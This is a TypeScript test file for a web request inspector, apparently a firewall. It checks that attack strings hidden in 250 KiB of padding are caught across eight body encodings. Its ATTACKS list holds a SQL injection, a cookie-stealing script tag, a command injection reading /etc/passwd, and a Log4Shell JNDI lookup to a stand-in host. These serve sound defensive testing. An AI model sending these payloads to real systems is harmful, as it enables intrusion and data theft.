// An attack in a body of 250 KiB of what looks like nothing is found wherever it stands: when there is no effort left to
// take a body apart, the scout still goes over all of it.

import type { InspectedRequest } from '@parapet/kinds';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { form, json, request } from '../decode/request.ts';
import { isShipped, shippedInspector } from '../evasions/shippedInspector.ts';

const LENGTH = 250_000;
const EACH = 160;
const PROSE =
  'The library, where members may order by telephone, opens at nine on every day of the week; select a room, and update your card there or at the desk. ';
const ATTACKS: readonly string[] = [
  "x' or 1=1 union select login, pass from users -- ",
  '<script>alert(document.cookie)</script>',
  '; cat /etc/passwd | sh',
  '${jndi:ldap://192.0.2.7/a}',
];

type Make = (values: readonly string[]) => InspectedRequest;

const multipart = (values: readonly string[]): InspectedRequest =>
  request(
    '/x',
    { 'content-type': 'multipart/form-data; boundary=Bxyz' },
    values
      .map((value, i) => `--Bxyz\r\nContent-Disposition: form-data; name="p${i}"\r\n\r\n${value}\r\n`)
      .join('') + '--Bxyz--\r\n',
  );
const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

const KINDS: readonly (readonly [string, Make])[] = [
  [
    'a form',
    (values) =>
      form(
        '/x',
        new URLSearchParams(values.map((value, i): [string, string] => [`p${i}`, value])).toString(),
      ),
  ],
  ['JSON', (values) => json('/x', JSON.stringify(values.map((text, id) => ({ id, text }))))],
  [
    'NDJSON',
    (values) =>
      request(
        '/x',
        { 'content-type': 'application/x-ndjson' },
        values.map((text, id) => JSON.stringify({ id, text })).join('\n'),
      ),
  ],
  [
    'GraphQL',
    (values) =>
      json(
        '/x',
        JSON.stringify({
          query: `query { ${values.map((text) => `a(b: ${JSON.stringify(text)})`).join(' ')} }`,
        }),
      ),
  ],
  [
    'XML',
    (values) =>
      request(
        '/x',
        { 'content-type': 'text/xml' },
        `<r>${values.map((text) => `<a>${escaped(text)}</a>`).join('')}</r>`,
      ),
  ],
  ['multipart', multipart],
  ['text', (values) => request('/x', { 'content-type': 'text/plain' }, values.join('\n'))],
  [
    'JSON, packed',
    (values) => {
      const sent = json('/x', JSON.stringify(values));
      const headers = [...sent.headers, ['content-encoding', 'gzip']] as const;
      return { ...sent, headers, body: gzipSync(sent.body ?? '') };
    },
  ],
];

describe.skipIf(!isShipped())('an attack in 250 KiB', () => {
  it.each(KINDS)(
    'of %s is found at the start, in the middle and at the end',
    { timeout: 60_000 },
    (_name, make) => {
      const inspector = shippedInspector();
      const count = Math.floor(LENGTH / EACH);
      const padding = Array.from({ length: count }, (_, i) => `${PROSE}${i}`);
      expect(inspector.inspect(make(padding)).action).toBe('pass');
      const missed: string[] = [];
      for (const attack of ATTACKS) {
        for (const at of [0, count >> 1, count - 1]) {
          const { action } = inspector.inspect(make(padding.with(at, attack)));
          if (action === 'pass') missed.push(`${attack} at ${at}`);
        }
      }
      expect(missed).toEqual([]);
    },
  );
});
